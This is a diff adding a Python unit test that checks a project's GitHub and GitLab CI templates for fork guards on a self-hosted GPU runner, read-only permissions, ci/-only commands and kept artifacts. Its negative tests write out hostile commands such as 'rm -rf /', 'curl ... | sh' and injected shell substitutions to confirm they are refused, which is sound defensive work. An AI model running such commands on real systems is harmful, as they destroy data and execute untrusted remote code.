@@ -1,0 +1,390 @@
+#!/usr/bin/env python3
+"""The CI templates, checked without a CI service or a GPU: .github/workflows/bankgate-gate.yml and
+.gitlab-ci.yml must parse as YAML, run nothing but ci/ scripts (so CI can be reproduced by hand), run on the GPU
+runner only for this repository's own branches (a fork's code must never reach the self-hosted machine), and
+keep the gate's results (JUnit, candidates, summary) when the gate fails.
+
+Each rule is a function that returns the problems it finds; the tests run them on the committed files, which
+must have none, and on altered copies, each of which must be caught, so that the rules can fail.
+
+Run: python3 tests/unit/ci_templates_test.py   (CTest runs it as unit test ci_templates)
+BANKGATE_CI_TEMPLATES_ROOT=DIR checks the templates of another tree (DIR/.github, DIR/.gitlab-ci.yml, DIR/ci).
+"""
+import copy
+import os
+import pathlib
+import re
+import shlex
+import unittest
+
+import yaml
+
+ROOT = pathlib.Path(os.environ.get("BANKGATE_CI_TEMPLATES_ROOT") or pathlib.Path(__file__).resolve().parents[2])
+GITHUB = ROOT / ".github" / "workflows" / "bankgate-gate.yml"
+GITLAB = ROOT / ".gitlab-ci.yml"
+
+FORK_GUARD = "github.event.pull_request.head.repo.full_name == github.repository"
+# The job conditions accepted: every pull request must pass the guard. Anything else
+# (an "|| always()", a guard inside a negation) is refused rather than reasoned about.
+GUARDED_CONDITIONS = (
+    f"github.event_name != 'pull_request' || {FORK_GUARD}",
+    f"github.event_name == 'pull_request' && {FORK_GUARD}",
+    FORK_GUARD,
+)
+# Actions are code as well; GitHub's own are the only ones let onto the GPU machine.
+ALLOWED_ACTIONS = ("actions/checkout@", "actions/upload-artifact@")
+GPU_LABELS = {"self-hosted", "linux", "gpu"}
+GITLAB_FORK_RULE = "$CI_MERGE_REQUEST_SOURCE_PROJECT_ID != $CI_PROJECT_ID"
+GITLAB_KEYWORDS = {"default", "include", "stages", "variables", "workflow", "image", "services", "cache",
+                   "before_script", "after_script"}
+
+ASSIGNMENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*=")
+CI_SCRIPT = re.compile(r"ci/[A-Za-z0-9_.-]+")
+# Anything that would let one line run a second program: separators, pipes, redirections, substitutions,
+# subshells, and GitHub expressions, which paste event text (a branch name, a title) into the shell.
+SHELL_SYNTAX = re.compile(r"[;&|<>`(){}]|\$\(|\$\{\{")
+
+
+def normalize(condition):
+    """A GitHub condition without its optional ${{ }} wrapper and with single spaces."""
+    text = " ".join(str(condition).split())
+    match = re.fullmatch(r"\$\{\{ ?(.*?) ?\}\}", text)
+    return match.group(1) if match else text
+
+
+def command_lines(text):
+    """The commands of a run: block or script entry: one per line, continuation lines joined, comments and
+    blank lines dropped."""
+    joined = re.sub(r"\\\n", " ", str(text))
+    return [line.strip() for line in joined.splitlines() if line.strip() and not line.strip().startswith("#")]
+
+
+def program(line):
+    """The program a plain command line starts (the first word after environment assignments); None for a
+    line with shell syntax or unbalanced quotes, which command_problems reports."""
+    if SHELL_SYNTAX.search(line):
+        return None
+    try:
+        words = shlex.split(line)
+    except ValueError:
+        return None
+    while words and ASSIGNMENT.match(words[0]):
+        words.pop(0)
+    return words[0] if words else ""
+
+
+def programs(text):
+    return [program(line) for line in command_lines(text)]
+
+
+def command_problems(where, text, root=ROOT):
+    """Problems with one command entry: each line must start a ci/ script of this tree, optionally after
+    environment assignments, and contain no shell syntax that could start anything else."""
+    problems = []
+    for line in command_lines(text):
+        started = program(line)
+        if started is None:
+            problems.append(f"{where}: '{line}' uses shell syntax, an expression or unbalanced quotes; "
+                            "run a ci/ script instead")
+        elif not CI_SCRIPT.fullmatch(started):
+            problems.append(f"{where}: '{line}' runs something other than a ci/ script")
+        elif not os.access(root / started, os.X_OK):
+            problems.append(f"{where}: '{line}' names {started}, which is not an executable file of this tree")
+    return problems
+
+
+def gate_results(root=ROOT):
+    """The folder ci/gate.sh writes its results to, and the problems when the script no longer says so."""
+    gate = (root / "ci" / "gate.sh").read_text()
+    build = re.search(r"build_dir=\$\{BANKGATE_BUILD_DIR:-([^}]+)\}", gate)
+    results = re.search(r'results="\$build_dir/([^"]+)"', gate)
+    if not (build and results):
+        return None, ["ci/gate.sh no longer sets build_dir and results as this test reads them; update the test"]
+    problems = [f"ci/gate.sh no longer writes $results/{name}; update the templates and this test"
+                for name in ("junit.xml", "candidates", "summary.md") if f'"$results/{name}"' not in gate]
+    return f"{build.group(1)}/{results.group(1)}", problems
+
+
+def result_paths(results):
+    return {f"{results}/junit.xml", f"{results}/candidates", f"{results}/summary.md"}
+
+
+def github_problems(workflow, root=ROOT):
+    problems = []
+    if not isinstance(workflow, dict):
+        return ["the GitHub workflow is not a YAML mapping"]
+    # YAML 1.1, which PyYAML reads, takes the key `on` for the boolean true.
+    triggers = workflow.get("on", workflow.get(True))
+    if isinstance(triggers, str):
+        triggers = [triggers]
+    triggers = set(triggers or ())
+    if "pull_request_target" in triggers:
+        problems.append("the workflow runs on pull_request_target, which gives a fork's pull request this "
+                        "repository's secrets and token")
+    if "pull_request" not in triggers:
+        problems.append("the workflow does not run on pull_request")
+    if workflow.get("permissions") != {"contents": "read"}:
+        problems.append(f"the workflow's permissions are {workflow.get('permissions')!r}, not contents: read")
+
+    results, gate_problems = gate_results(root)
+    problems += gate_problems
+    jobs = workflow.get("jobs") or {}
+    runs_gate = False
+    for name, job in jobs.items():
+        where = f"GitHub job {name}"
+        if "uses" in job:
+            problems.append(f"{where} calls the workflow {job['uses']}, which this test cannot check")
+        if "write" in str(job.get("permissions", "")):
+            problems.append(f"{where} asks for write permissions")
+        labels = job.get("runs-on")
+        labels = {labels} if isinstance(labels, str) else set(labels or ())
+        # Every job, not only those whose runs-on says self-hosted: a runner group or a label set given
+        # another way must not slip past.
+        if normalize(job.get("if", "")) not in GUARDED_CONDITIONS:
+            problems.append(f"{where} has no fork guard as its condition ({FORK_GUARD})")
+        steps = job.get("steps") or []
+        gate_step = None
+        for index, step in enumerate(steps):
+            step_where = f"{where}, step {step.get('name', index + 1)}"
+            if "run" in step:
+                problems += command_problems(step_where, step["run"], root)
+                if "ci/gate.sh" in programs(step["run"]):
+                    gate_step = index
+            uses = step.get("uses", "")
+            if uses and not uses.startswith(ALLOWED_ACTIONS):
+                problems.append(f"{step_where} uses {uses}, not one of GitHub's own actions {ALLOWED_ACTIONS}")
+            if uses.startswith("actions/upload-artifact@") and normalize(step.get("if", "")) != "always()":
+                problems.append(f"{step_where} uploads artifacts without if: always(), so a failed run keeps nothing")
+        if gate_step is None:
+            continue
+        runs_gate = True
+        if not GPU_LABELS <= labels:
+            problems.append(f"{where} runs ci/gate.sh on {sorted(labels)}, not on {sorted(GPU_LABELS)}")
+        uploaded = set()
+        for step in steps[gate_step + 1:]:
+            if step.get("uses", "").startswith("actions/upload-artifact@"):
+                paths = str((step.get("with") or {}).get("path", ""))
+                uploaded |= {line.strip().rstrip("/") for line in paths.splitlines()}
+        if results and not result_paths(results) <= uploaded:
+            problems.append(f"{where} does not upload {sorted(result_paths(results) - uploaded)} after the gate")
+    if not runs_gate:
+        problems.append("no GitHub job runs ci/gate.sh")
+    return problems
+
+
+def gitlab_commands(entry):
+    """A script entry as a flat list (GitLab accepts a string, a list, and lists nested by anchors)."""
+    if isinstance(entry, list):
+        return [command for item in entry for command in gitlab_commands(item)]
+    return [] if entry is None else [entry]
+
+
+def gitlab_problems(config, root=ROOT):
+    problems = []
+    if not isinstance(config, dict):
+        return ["the GitLab configuration is not a YAML mapping"]
+    if "include" in config:
+        problems.append("the GitLab configuration includes other files, whose jobs this test cannot check")
+    for key in ("before_script", "after_script"):
+        for holder, where in ((config, "GitLab"), (config.get("default") or {}, "GitLab default")):
+            for command in gitlab_commands(holder.get(key)):
+                problems += command_problems(f"{where} {key}", command, root)
+
+    results, gate_problems = gate_results(root)
+    problems += gate_problems
+    jobs = {name: job for name, job in config.items()
+            if name not in GITLAB_KEYWORDS and not str(name).startswith(".") and isinstance(job, dict)}
+    for name, job in jobs.items():
+        where = f"GitLab job {name}"
+        started = []
+        for key in ("before_script", "script", "after_script"):
+            for command in gitlab_commands(job.get(key)):
+                problems += command_problems(f"{where} {key}", command, root)
+                started += programs(command)
+        if "gpu" not in (job.get("tags") or []):
+            problems.append(f"{where} is not tagged gpu")
+        if "only" in job or "except" in job:
+            problems.append(f"{where} uses only/except; the fork refusal needs rules")
+        rules = job.get("rules") or []
+        first = rules[0] if rules else {}
+        if not (GITLAB_FORK_RULE in str(first.get("if", "")) and first.get("when") == "never"):
+            problems.append(f"{where}: its first rule must refuse merge requests from forks "
+                            f"({GITLAB_FORK_RULE}, when: never)")
+        if any("if" not in rule for rule in rules):
+            problems.append(f"{where} has a rule without a condition, which would run it for any pipeline")
+        if "ci/gate.sh" not in started:
+            if name == "bankgate-gate":
+                problems.append(f"{where} does not run ci/gate.sh")
+            continue
+        artifacts = job.get("artifacts") or {}
+        if artifacts.get("when") != "always":
+            problems.append(f"{where} keeps its artifacts only when it passes (artifacts: when: always)")
+        if results:
+            if (artifacts.get("reports") or {}).get("junit") != f"{results}/junit.xml":
+                problems.append(f"{where} does not report {results}/junit.xml as junit")
+            kept = {str(path).rstrip("/") for path in artifacts.get("paths") or []}
+            if not result_paths(results) <= kept:
+                problems.append(f"{where} does not keep {sorted(result_paths(results) - kept)}")
+    if "bankgate-gate" not in jobs:
+        problems.append("there is no GitLab job bankgate-gate")
+    return problems
+
+
+def load(path):
+    with open(path) as handle:
+        return yaml.safe_load(handle)
+
+
+class CommittedTemplatesTest(unittest.TestCase):
+    def test_github_workflow_passes_every_rule(self):
+        self.assertEqual(github_problems(load(GITHUB)), [])
+
+    def test_gitlab_configuration_passes_every_rule(self):
+        self.assertEqual(gitlab_problems(load(GITLAB)), [])
+
+    def test_gate_results_folder_is_read_from_ci_gate_sh(self):
+        self.assertEqual(gate_results(), ("build/gate/gate-results", []))
+
+
+class CommandRuleTest(unittest.TestCase):
+    def assertRefused(self, text, reason):
+        problems = command_problems("here", text)
+        self.assertTrue(problems and reason in problems[0], f"{text!r} gave {problems}")
+
+    def test_ci_scripts_with_arguments_and_assignments_are_accepted(self):
+        for text in ("ci/gate.sh", "ci/gate.sh --no-build", 'BANKGATE_FUZZ_SECONDS=0 ci/test.sh',
+                     'ci/compare-commits.sh "$BASE" HEAD^1', "# a comment\nci/gate.sh \\\n  --no-build\n"):
+            self.assertEqual(command_problems("here", text), [], text)
+
+    def test_other_programs_are_refused(self):
+        for text in ("make", "bash ci/gate.sh", "./ci/gate.sh", "X=1 python3 -c pass", "ci/gate.sh\necho done"):
+            self.assertRefused(text, "runs something other than a ci/ script")
+
+    def test_shell_syntax_and_expressions_are_refused(self):
+        for text in ("ci/gate.sh; rm -rf /", "ci/gate.sh && make", "curl x | sh", "ci/gate.sh >log",
+                     "X=$(id) ci/gate.sh", "ci/compare-commits.sh ${{ github.head_ref }} HEAD", "ci/gate.sh &"):
+            self.assertRefused(text, "shell syntax")
+
+    def test_scripts_that_do_not_exist_are_refused(self):
+        self.assertRefused("ci/no-such-script.sh", "not an executable file")
+
+
+class BrokenGithubWorkflowTest(unittest.TestCase):
+    """Each alteration of the committed workflow must be caught."""
+
+    def setUp(self):
+        self.workflow = load(GITHUB)
+        self.gate = self.workflow["jobs"]["gate"]
+
+    def assertCaught(self, reason, workflow=None):
+        problems = github_problems(workflow or self.workflow)
+        self.assertTrue(any(reason in problem for problem in problems), f"'{reason}' not in {problems}")
+
+    def steps(self, action):
+        return [step for step in self.gate["steps"] if step.get("uses", "").startswith(action)]
+
+    def test_pull_request_target(self):
+        self.workflow[True]["pull_request_target"] = None
+        self.assertCaught("pull_request_target")
+
+    def test_no_pull_request_trigger(self):
+        del self.workflow[True]["pull_request"]
+        self.assertCaught("does not run on pull_request")
+
+    def test_missing_or_weakened_fork_guard(self):
+        for condition in (None, "always()", f"always() || {FORK_GUARD}", f"${{{{ !({FORK_GUARD}) }}}}"):
+            workflow = copy.deepcopy(self.workflow)
+            workflow["jobs"]["gate"]["if"] = condition
+            self.assertCaught("has no fork guard", workflow)
+
+    def test_write_permissions(self):
+        self.workflow["permissions"] = {"contents": "write"}
+        self.assertCaught("not contents: read")
+        self.workflow["permissions"] = {"contents": "read"}
+        self.gate["permissions"] = {"pull-requests": "write"}
+        self.assertCaught("write permissions")
+
+    def test_a_command_that_is_not_a_ci_script(self):
+        self.gate["steps"].insert(1, {"run": "cmake --build build/gate"})
+        self.assertCaught("runs something other than a ci/ script")
+
+    def test_a_third_party_action(self):
+        self.gate["steps"].insert(1, {"uses": "someone/setup-cuda@v1"})
+        self.assertCaught("not one of GitHub's own actions")
+
+    def test_upload_only_when_the_gate_passes(self):
+        del self.steps("actions/upload-artifact@")[0]["if"]
+        self.assertCaught("without if: always()")
+
+    def test_a_result_left_out_of_the_upload(self):
+        upload = self.steps("actions/upload-artifact@")[0]
+        upload["with"]["path"] = upload["with"]["path"].replace("build/gate/gate-results/summary.md", "")
+        self.assertCaught("does not upload ['build/gate/gate-results/summary.md']")
+
+    def test_gate_on_a_hosted_runner(self):
+        self.gate["runs-on"] = "ubuntu-latest"
+        self.assertCaught("not on ['gpu', 'linux', 'self-hosted']")
+
+    def test_no_gate(self):
+        self.gate["steps"] = [step for step in self.gate["steps"] if "run" not in step]
+        self.assertCaught("no GitHub job runs ci/gate.sh")
+
+    def test_a_called_workflow(self):
+        self.workflow["jobs"]["more"] = {"if": FORK_GUARD, "uses": "someone/workflows/.github/workflows/x.yml@v1"}
+        self.assertCaught("this test cannot check")
+
+
+class BrokenGitlabConfigurationTest(unittest.TestCase):
+    """Each alteration of the committed GitLab configuration must be caught."""
+
+    def setUp(self):
+        self.config = load(GITLAB)
+        self.gate = self.config["bankgate-gate"]
+
+    def assertCaught(self, reason):
+        problems = gitlab_problems(self.config)
+        self.assertTrue(any(reason in problem for problem in problems), f"'{reason}' not in {problems}")
+
+    def test_not_tagged_gpu(self):
+        self.gate["tags"] = ["docker"]
+        self.assertCaught("not tagged gpu")
+
+    def test_fork_rule_missing(self):
+        self.gate["rules"] = self.gate["rules"][1:]
+        self.assertCaught("refuse merge requests from forks")
+
+    def test_a_rule_without_condition(self):
+        self.gate["rules"].append({"when": "always"})
+        self.assertCaught("rule without a condition")
+
+    def test_a_command_that_is_not_a_ci_script(self):
+        self.gate["before_script"] = ["apt-get install -y cmake"]
+        self.assertCaught("runs something other than a ci/ script")
+
+    def test_a_global_before_script(self):
+        self.config["default"] = {"before_script": ["curl https://example.com/x | sh"]}
+        self.assertCaught("shell syntax")
+
+    def test_artifacts_only_on_success(self):
+        self.gate["artifacts"]["when"] = "on_success"
+        self.assertCaught("when: always")
+
+    def test_junit_report_elsewhere(self):
+        self.gate["artifacts"]["reports"]["junit"] = "build/gate/gate-junit.xml"
+        self.assertCaught("does not report build/gate/gate-results/junit.xml")
+
+    def test_candidates_left_out(self):
+        self.gate["artifacts"]["paths"].remove("build/gate/gate-results/candidates/")
+        self.assertCaught("does not keep ['build/gate/gate-results/candidates']")
+
+    def test_an_included_file(self):
+        self.config["include"] = [{"remote": "https://example.com/more-jobs.yml"}]
+        self.assertCaught("includes other files")
+
+    def test_gate_job_renamed(self):
+        self.config["gate"] = self.config.pop("bankgate-gate")
+        self.assertCaught("no GitLab job bankgate-gate")
+
+
+if __name__ == "__main__":
+    unittest.main()
